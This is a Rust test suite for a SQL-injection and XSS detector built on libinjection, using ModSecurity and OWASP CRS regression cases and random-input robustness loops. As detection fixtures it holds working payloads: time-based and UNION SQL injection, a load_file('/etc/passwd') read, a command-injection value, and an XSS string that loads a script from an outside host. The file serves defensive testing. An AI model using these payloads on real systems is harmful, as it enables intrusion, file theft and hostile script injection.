//! Tests for the libinjection wrapper: ModSecurity's operator cases, the CRS 942100 / 941100
//! regression payloads (extracted by hand, see the comments), libinjection's own fingerprint
//! expectations, and a random-input robustness loop.

use super::{detect_sqli, detect_xss};

/// ModSecurity `secrules-language-tests/operators/detectSQLi.json` (input, ret): all cases.
/// The file has no byte escapes; inputs are plain JSON strings.
const MODSEC_SQLI: &[(&str, bool)] = &[
    ("", false),
    ("this is not isqli", false),
    ("ascii(substring(version() from 1 for 1))", true),
];

/// ModSecurity `secrules-language-tests/operators/detectXSS.json` (input, ret): all cases.
const MODSEC_XSS: &[(&str, bool)] = &[
    ("", false),
    ("this is not an XSS", false),
    ("<a href=\"javascript:alert(1)\">)", true),
];

#[test]
fn modsecurity_detect_sqli_cases() {
    for (input, ret) in MODSEC_SQLI {
        assert_eq!(
            detect_sqli(input.as_bytes()).is_some(),
            *ret,
            "detectSQLi {input:?}"
        );
    }
}

#[test]
fn modsecurity_detect_xss_cases() {
    for (input, ret) in MODSEC_XSS {
        assert_eq!(detect_xss(input.as_bytes()), *ret, "detectXSS {input:?}");
    }
}

/// Cross-checks the embedded cases against the shared test files when they are present
/// (they sit beside the repository on developer machines and in CI).
#[test]
fn modsecurity_case_files_match_embedded_cases() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/modsecurity-tests/secrules-language-tests/operators");
    for (file, cases) in [
        ("detectSQLi.json", MODSEC_SQLI),
        ("detectXSS.json", MODSEC_XSS),
    ] {
        let Ok(text) = std::fs::read_to_string(dir.join(file)) else {
            continue;
        };
        let parsed: Vec<serde_json::Value> = serde_json::from_str(&text).expect(file);
        let from_file: Vec<(String, bool)> = parsed
            .iter()
            .map(|c| {
                (
                    c["input"].as_str().expect("input").to_owned(),
                    c["ret"].as_i64().expect("ret") == 1,
                )
            })
            .collect();
        let embedded: Vec<(String, bool)> =
            cases.iter().map(|(i, r)| ((*i).to_owned(), *r)).collect();
        assert_eq!(
            from_file, embedded,
            "{file} changed: update the embedded cases"
        );
    }
}

/// CRS v4.28.0 `942100.yaml`: values of the tests with `expect_ids: [942100]`, as the rule
/// sees them (form-decoded by the body parser, then `t:utf8toUnicode,t:urlDecodeUni,
/// t:removeNulls`, which change nothing further here). Test 10 has no `var=`: the form parser
/// splits at the first `=`, giving the name and value listed; either may match (ARGS_NAMES
/// and ARGS are both targets). Test 15's value comes from an XML attribute.
const CRS_942100_ATTACKS: &[(u32, &[&str])] = &[
    (1, &["1234 OR 1=1"]),
    (2, &["-1839' or '1'='1"]),
    (3, &["-1839\" or \"1\"=\"2"]),
    (4, &["2010-01-01' sleep(20.to_i) '"]),
    (5, &["EmptyValue' and 526=527"]),
    (6, &["foo') UNION ALL select NULL --"]),
    (7, &["foo')waitfor delay'5:0:20'--"]),
    (8, &["JKGHUKGDI8TDHLFJH72FZLFJSKFH' and sleep(12) --"]),
    (9, &["/path/to/file/unitests.txt') UNION ALL select NULL --"]),
    (
        10,
        &[
            "1'||(select extractvalue(xmltype('<?xml version",
            "\"1.1\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % toyop SYSTEM \"https://coreruleset.org/\">%toyop;",
        ],
    ),
    (11, &["sleep(20)"]),
    (12, &["unittests@coreruleset.org\" sleep(10.to_i) \""]),
    (13, &["\" | type %SystemDrive%\\\\config.ini | \""]),
    (
        14,
        &["\"unittests@coreruleset.org\"')) and (select*from(select(sleep(5)))x) --"],
    ),
    (15, &["1234 OR 1=1"]),
];

#[test]
fn crs_942100_attacks_are_detected() {
    for (id, values) in CRS_942100_ATTACKS {
        let hit = values.iter().any(|v| detect_sqli(v.as_bytes()).is_some());
        assert!(hit, "942100 test {id}: none of {values:?} detected");
    }
}

/// Values that 942100's targets also see in every one of those requests (User-Agent, the
/// argument name `var`); the rule must not fire on them, or every test would match for the
/// wrong reason.
#[test]
fn crs_942100_benign_values_are_not_detected() {
    for v in ["OWASP CRS test agent", "var", "probe", "localhost"] {
        assert_eq!(detect_sqli(v.as_bytes()), None, "{v:?}");
    }
}

/// CRS v4.28.0 `941100.yaml`: values of the tests with `expect_ids: [941100]`, after the
/// request parsers (query / form decoding, XML entity decoding) and the rule's
/// `t:utf8toUnicode,t:urlDecodeUni,t:htmlEntityDecode,t:jsDecode,t:cssDecode,t:removeNulls`
/// applied by hand.
const CRS_941100_ATTACKS: &[(u32, &str)] = &[
    // Test 1: ARGS:input of the query string ('+' is a space; jsDecode turns `\\` into `\`).
    (
        1,
        "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\"javascript:(function () {var x = document.createElement(\\\"script\\\");x.src = \\\"//sdl.me/popup.js?//\\\";document.childNodes\\[0\\].appendChild(x);}());\"\",1000)</script>",
    ),
    // Test 2: ARGS:body.
    (
        2,
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
    ),
    // Test 3: REQUEST_HEADERS:User-Agent after t:urlDecodeUni.
    (
        3,
        "/char_test?mime=text/xml&body=<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
    ),
    // Test 6: ARGS:foo (`%3D` and `%77` decoded by the form parser).
    (6, "<xss onbeforehellfreezes=alerw(1)>"),
    // Test 7: XML://@probe after XML entity decoding.
    (
        7,
        "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\"javascript:(function () {var x = document.createElement(\\\"script\\\");x.src = \\\"//sdl.me/popup.js?//\\\";document.childNodes\\[0\\].appendChild(x);}());\"\",1000)</script>",
    ),
];

#[test]
fn crs_941100_attacks_are_detected() {
    for (id, v) in CRS_941100_ATTACKS {
        assert!(detect_xss(v.as_bytes()), "941100 test {id}: {v:?}");
    }
}

/// 941100 tests 4 and 5 (`no_expect_ids`): the only value in the rule's targets is the
/// User-Agent (the attack in test 5 sits in the Referer, which 941100 does not inspect).
#[test]
fn crs_941100_benign_values_are_not_detected() {
    for v in [
        "OWASP CRS test agent",
        "http://www.coreruleset.org",
        "text/xml",
    ] {
        assert!(!detect_xss(v.as_bytes()), "{v:?}");
    }
}

/// Fingerprints from libinjection's own test data (`tests/test-sqli-*.txt`, run by its
/// `testdriver.c` through `libinjection_sqli(input, len, fingerprint)`, printing the
/// fingerprint when the input is SQLi and nothing otherwise) and its README.
#[test]
fn libinjection_fingerprints() {
    // README of libinjection/libinjection (the C library).
    assert_eq!(
        detect_sqli(b"-1' and 1=1 union/* foo */select load_file('/etc/passwd')--").as_deref(),
        Some("s&1UE")
    );
    // tests/test-sqli-003.txt and -028.txt: not SQLi.
    assert_eq!(detect_sqli(b"foo \"bar\""), None);
    assert_eq!(detect_sqli(b"--'blah'"), None);
    // `libinjection_sqli_not_whitelist`, two-token case: `1U` is benign when it really is
    // just a number and `union` (2 tokens), SQLi when folding or comments were involved.
    assert_eq!(detect_sqli(b"1 union"), None);
    assert_eq!(detect_sqli(b"1 /* junk */ UNION").as_deref(), Some("1U"));
    // The classic, read in the single-quote context as `'1' or '1'='1`.
    assert_eq!(detect_sqli(b"1' or '1'='1").as_deref(), Some("s&sos"));
    // README of the Rust bindings to the C library.
    assert_eq!(detect_sqli(b"' OR '1'='1' --").as_deref(), Some("s&sos"));
}

#[test]
fn xss_classics() {
    assert!(detect_xss(b"<script>alert(1)</script>"));
    assert!(detect_xss(b"<img src=x onerror=alert(1)>"));
    assert!(detect_xss(b"\" onmouseover=\"alert(1)"));
    assert!(!detect_xss(b"<b>bold</b> and <i>italic</i>"));
    assert!(!detect_xss(b"1 < 2 and 3 > 2"));
}

/// SQL and HTML metacharacters and keyword fragments (which reach deep into the
/// tokenizers), for random inputs.
const PIECES: &[&[u8]] = &[
    b"'",
    b"\"",
    b"`",
    b"/*",
    b"*/",
    b"--",
    b"#",
    b"(",
    b")",
    b";",
    b",",
    b".",
    b"0x",
    b"1",
    b"1e",
    b"$",
    b"@",
    b"@@",
    b"\\",
    b"N'",
    b"x'",
    b"b'",
    b"q'[",
    b"{",
    b"}",
    b"[",
    b"]",
    b"<",
    b">",
    b"</",
    b"<!--",
    b"-->",
    b"<?",
    b"<!",
    b"=",
    b"&",
    b"&#",
    b"&#x",
    b";",
    b" ",
    b"\t",
    b"\n",
    b"\0",
    b"\xff",
    b"\xc0",
    b"select",
    b"union",
    b"or",
    b"and",
    b"sleep",
    b"script",
    b"onerror",
    b"javascript:",
    b"href",
    b"src",
    b"style",
    b"-",
    b"+",
    b"*",
    b"|",
    b"!",
    b"::",
    b"e",
];

/// Small deterministic PRNG (xorshift64*) so the robustness loop needs no extra crate.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// Refills `buf` with fewer than `max` random bytes, or as many random `pieces`.
    fn fill(&mut self, buf: &mut Vec<u8>, max: u64, pieces: Option<&[&[u8]]>) {
        buf.clear();
        for _ in 0..self.next() % max {
            let r = self.next();
            match pieces {
                Some(p) => buf.extend_from_slice(p[(r as usize) % p.len()]),
                None => buf.push(r as u8),
            }
        }
    }
}

/// No input may panic or hang: random bytes, and random strings over an alphabet of SQL and
/// HTML metacharacters and keyword fragments (which reach deep into the tokenizers).
#[test]
fn random_inputs_never_panic() {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut buf = Vec::new();
    for round in 0..20_000u32 {
        rng.fill(&mut buf, 48, (round % 2 == 1).then_some(PIECES));
        let _ = detect_sqli(&buf);
        let _ = detect_xss(&buf);
    }
    // Long inputs exercise the token-buffer limits.
    let long: Vec<u8> = b"1' or (select 1/*"
        .iter()
        .copied()
        .cycle()
        .take(100_000)
        .collect();
    assert!(detect_sqli(&long).is_some());
    let _ = detect_xss(&long);
}

/// The shortcuts in `mod.rs` never hide a detection: each input they answer is checked
/// against the crate itself. SQLi: every word of the crate's keyword table that is a plain
/// word (as listed, lower-case, and with a digit or `_1` appended), integers, random plain
/// words, and random phrases of keywords, ordinary words and numbers; XSS: random strings
/// of the pieces above without `<` or `=`, and the attacks of `xss_classics` with those two
/// characters taken out.
#[test]
fn shortcuts_agree_with_libinjection() {
    let sqli = |w: &[u8]| libinjectionrs::detect_sqli(w).is_injection();
    let xss = |w: &[u8]| libinjectionrs::detect_xss(w).is_injection();
    let mut words = 0;
    for kw in libinjectionrs::sqli::sqli_data::SQL_KEYWORDS {
        let w = kw.word.as_bytes();
        for v in [
            w.to_vec(),
            w.to_ascii_lowercase(),
            [w, b"1"].concat(),
            [w, b"_1"].concat(),
            [w, b".x"].concat(),
            [b"json.", w].concat(),
            [b"a.", w, b".b"].concat(),
        ] {
            if super::plain_word(&v) {
                words += 1;
                assert!(
                    !sqli(&v),
                    "plain word {:?} is SQLi",
                    String::from_utf8_lossy(&v)
                );
            }
        }
    }
    assert!(
        words > 1_000,
        "only {words} keyword variants were plain words"
    );
    let mut rng = Rng(0x2545_f491_4f6c_dd1d);
    const WORD: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.";
    // Dotted words built from keywords, so that some part before a `.` is one.
    let parts: Vec<&[u8]> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .map(|k| k.word.as_bytes())
        .filter(|w| w.iter().all(u8::is_ascii_alphanumeric))
        .chain([&b"json"[..], b"items", b"0", b"sku", b"x1"])
        .collect();
    let mut buf = Vec::new();
    let mut plain = 0;
    for round in 0..30_000u32 {
        buf.clear();
        let len = 1 + (rng.next() % 24) as usize;
        match round % 3 {
            0 => {
                for i in 0..len {
                    let r = rng.next() as usize;
                    buf.push(if i == 0 {
                        WORD[r % 52]
                    } else {
                        WORD[r % WORD.len()]
                    });
                }
            }
            1 => {
                for i in 0..(1 + len % 4) {
                    if i > 0 {
                        buf.push(b'.');
                    }
                    buf.extend_from_slice(parts[rng.next() as usize % parts.len()]);
                }
            }
            _ => {
                for i in 0..len {
                    buf.push(if i == len / 2 && rng.next().is_multiple_of(2) {
                        b'.'
                    } else {
                        b'0' + (rng.next() % 10) as u8
                    });
                }
            }
        }
        if super::plain_word(&buf) {
            plain += 1;
            assert!(!sqli(&buf), "{:?}", String::from_utf8_lossy(&buf));
        }
    }
    assert!(
        plain > 15_000,
        "only {plain} random inputs were plain words"
    );
    // Not plain words: left to libinjection, which flags some.
    for w in [
        &b"1union"[..],
        b"1 union",
        b"select.1",
        b"a b",
        b"$1",
        b"-1",
        b"1e",
        b"1.2.3",
        b".5",
    ] {
        assert!(!super::plain_word(w), "{:?}", String::from_utf8_lossy(w));
    }
    assert!(detect_sqli(b"1union select 1").is_some());

    // Phrases of keywords (and the halves of two-word ones), ordinary words and numbers.
    let keywords: Vec<&[u8]> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .flat_map(|k| k.word.split(' '))
        .filter(|w| !w.is_empty() && w.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        .map(str::as_bytes)
        .collect();
    let ordinary: Vec<Vec<u8>> = (0..200)
        .map(|_| {
            (0..1 + rng.next() % 8)
                .map(|_| b'a' + (rng.next() % 26) as u8)
                .collect()
        })
        .chain(["0", "1", "42", "007", "x1", "main_st"].map(|w| w.as_bytes().to_vec()))
        .collect();
    let mut phrases = 0;
    for round in 0..30_000u32 {
        buf.clear();
        for i in 0..(1 + rng.next() % 6) {
            if i > 0 {
                buf.extend_from_slice(if rng.next().is_multiple_of(5) {
                    b"  "
                } else {
                    b" "
                });
            }
            let r = rng.next() as usize;
            let w: &[u8] = if r.is_multiple_of(4) {
                keywords[(r / 4) % keywords.len()]
            } else {
                &ordinary[(r / 4) % ordinary.len()]
            };
            if round % 2 == 0 {
                buf.extend_from_slice(w);
            } else {
                buf.extend(w.iter().map(u8::to_ascii_lowercase));
            }
        }
        if super::plain_phrase(&buf) {
            phrases += 1;
            assert!(!sqli(&buf), "{:?}", String::from_utf8_lossy(&buf));
        }
    }
    assert!(phrases > 1_000, "only {phrases} random phrases were plain");
    for p in [
        &b"value number 7"[..],
        b"John Smith",
        b"42 Main Street",
        b"a  b",
    ] {
        assert!(super::plain_phrase(p), "{:?}", String::from_utf8_lossy(p));
    }
    for p in [
        &b"1 union select 1"[..],
        b"x group by 2",
        b"double precision",
        b"a, b",
        b"a(b)",
    ] {
        assert!(!super::plain_phrase(p), "{:?}", String::from_utf8_lossy(p));
    }

    let pieces: Vec<&[u8]> = PIECES
        .iter()
        .copied()
        .filter(|p| super::no_markup(p))
        .collect();
    for round in 0..20_000u32 {
        rng.fill(&mut buf, 32, (round % 4 != 0).then_some(&pieces[..]));
        if super::no_markup(&buf) {
            assert!(!xss(&buf), "{:?}", String::from_utf8_lossy(&buf));
        }
    }
    for attack in [
        &b"<script>alert(1)</script>"[..],
        b"<img src=x onerror=alert(1)>",
        b"\" onmouseover=\"alert(1)",
        b"' style='x:expression(alert(1))",
        b"javascript:alert(1)",
    ] {
        assert!(!super::no_markup(attack) || !xss(attack));
        let stripped: Vec<u8> = attack
            .iter()
            .copied()
            .filter(|&b| b != b'<' && b != b'=')
            .collect();
        assert!(!xss(&stripped), "{:?}", String::from_utf8_lossy(&stripped));
    }
}
